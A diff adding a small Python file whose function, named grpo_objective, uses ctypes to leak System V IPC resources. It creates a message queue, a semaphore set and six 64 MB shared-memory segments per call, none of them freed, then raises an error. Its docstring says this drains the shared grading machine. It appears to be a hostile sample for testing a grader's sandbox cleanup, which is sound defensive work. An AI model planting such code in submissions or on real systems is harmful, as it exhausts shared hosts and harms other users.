@@ -1,0 +1,23 @@
+"""Fills System V shared memory, which outlives its process and counts against no process's
+memory limit, and leaves a message queue and a semaphore set behind: left there, every call
+would take memory from the machine and the students graded after it."""
+
+import ctypes
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+IPC_PRIVATE, IPC_CREAT = 0, 0o1000
+SEGMENT = 64 * 1024 * 1024
+
+
+def grpo_objective(*args, **kwargs):
+    libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
+    libc.semget(IPC_PRIVATE, 4, IPC_CREAT | 0o600)
+    for _ in range(6):  # more than its memory limit, every call
+        segment = libc.shmget(IPC_PRIVATE, SEGMENT, IPC_CREAT | 0o600)
+        address = libc.shmat(segment, None, 0)
+        if segment < 0 or address in (None, ctypes.c_void_p(-1).value):
+            break
+        ctypes.memset(address, 1, SEGMENT)
+        libc.shmdt(ctypes.c_void_p(address))
+    raise RuntimeError("no answer")
